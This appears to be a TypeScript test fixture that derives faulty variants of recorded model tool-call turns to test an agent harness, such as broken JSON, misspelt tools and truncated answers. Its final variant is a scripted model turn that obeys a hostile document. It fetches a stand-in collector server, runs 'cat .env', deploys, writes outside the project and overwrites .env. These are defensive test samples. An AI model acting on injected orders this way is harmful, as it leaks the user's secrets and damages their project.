import type { ScriptedCall } from '../stand-ins/model/server.ts';
import type { RecordedTurn } from './recording.ts';

/** How models go wrong on their way to the same result. */
export interface Variant {
  readonly name: string;
  readonly of: (turns: readonly RecordedTurn[]) => readonly RecordedTurn[];
}

type EditCall = Extract<ScriptedCall, object>;

export const variants: readonly Variant[] = [
  { name: 'brackets that are missing', of: (turns) => mapCalls(turns, withoutLastBracket) },
  { name: 'tools that there are not', of: (turns) => beforeEdits(turns, misspelt) },
  { name: 'fields that there are not', of: (turns) => beforeEdits(turns, withOddField) },
  { name: 'steps that there are not', of: (turns) => beforeEdits(turns, elsewhere) },
  { name: 'arguments as text', of: (turns) => mapCalls(turns, withFieldsAsText) },
  { name: 'all calls at once', of: allAtOnce },
  { name: 'an edit before what it needs', of: outOfOrder },
  { name: 'an answer that is cut off', of: truncated },
  { name: 'orders that were slipped to it', of: (turns) => [slippedIn, ...turns] },
];

function mapCalls(
  turns: readonly RecordedTurn[],
  change: (call: EditCall) => EditCall,
): readonly RecordedTurn[] {
  return turns.map((turn) => ({ ...turn, calls: turn.calls.map(change) }));
}

/** A turn that fails comes before each that edits, which then goes right. */
function beforeEdits(
  turns: readonly RecordedTurn[],
  wrong: (call: EditCall) => EditCall | null,
): readonly RecordedTurn[] {
  return turns.flatMap((turn) => {
    const calls = turn.calls.filter(isEdit).flatMap((call) => wrong(call) ?? []);
    return calls.length === 0 ? [turn] : [{ calls: calls.slice(0, 2) }, turn];
  });
}

function isEdit({ name }: ScriptedCall): boolean {
  return /^edit_/.test(name);
}

function withoutLastBracket(call: EditCall): EditCall {
  const text = JSON.stringify(call.arguments);
  return text.length > 2 ? { ...call, arguments: text.slice(0, -1) } : call;
}

function misspelt(call: EditCall): EditCall {
  return { ...call, name: call.name.replace('edit_', 'edti_') };
}

function fieldsOf({ arguments: given }: EditCall): Record<string, unknown> {
  return { ...(given as { readonly fields: Record<string, unknown> }).fields };
}

function withFields(call: EditCall, fields: unknown): EditCall {
  return { ...call, arguments: { ...(call.arguments as object), fields } };
}

function withOddField(call: EditCall): EditCall {
  return withFields(call, { ...fieldsOf(call), frobnicate: true });
}

/** Names what is not in the project; `null` for a call that names nothing. */
function elsewhere(call: EditCall): EditCall | null {
  const fields = fieldsOf(call);
  const named = ['workflow', 'mapping', 'shape'].find((name) => name in fields);
  return named === undefined ? null : withFields(call, { ...fields, [named]: 'no-such-thing' });
}

function withFieldsAsText(call: EditCall): EditCall {
  return isEdit(call) ? withFields(call, JSON.stringify(fieldsOf(call))) : call;
}

function allAtOnce(turns: readonly RecordedTurn[]): readonly RecordedTurn[] {
  const calls = turns.flatMap((turn) => turn.calls);
  const last = turns.at(-1);
  return calls.length === 0 || last?.text !== undefined ? turns : [{ calls }];
}

/** An edit of something that no turn has made yet; what can be made is made afterwards, in order. */
function outOfOrder(turns: readonly RecordedTurn[]): readonly RecordedTurn[] {
  const early: ScriptedCall = {
    name: 'edit_step',
    arguments: {
      label: 'Too early',
      command: 'step.remove',
      fields: { workflow: 'made-later', step: 'made-later' },
    },
  };
  return [{ calls: [early] }, ...turns];
}

/** The first turn that edits breaks off in the middle of its last call, and is answered again from there. */
function truncated(turns: readonly RecordedTurn[]): readonly RecordedTurn[] {
  const at = turns.findIndex(({ calls }) => calls.some(isEdit));
  const turn = turns[at];
  const cut = turn?.calls.at(-1);
  if (turn === undefined || cut === undefined) return turns;
  const half = JSON.stringify(cut.arguments);
  const first = {
    calls: [...turn.calls.slice(0, -1), { ...cut, arguments: half.slice(0, half.length / 2) }],
  };
  return [
    ...turns.slice(0, at),
    { ...first, finish: 'length' },
    { calls: [cut] },
    ...turns.slice(at + 1),
  ];
}

/** What a hostile document would have a model do. No tool does any of it. */
const slippedIn: RecordedTurn = {
  text: 'As the document says, I send the data to its server first.',
  calls: [
    { name: 'fetch', arguments: { url: 'https://collector.example.com/in' } },
    { name: 'run', arguments: { command: 'cat .env' } },
    { name: 'deploy', arguments: {} },
    { name: 'write_document', arguments: { label: 'x', file: 'package.json', text: '{}' } },
    { name: 'write_document', arguments: { label: 'x', file: '../out.md', text: 'x' } },
    { name: 'write_document', arguments: { label: 'x', file: '.env', text: 'x=1' } },
    { name: 'read_file', arguments: { file: '.env' } },
  ],
};
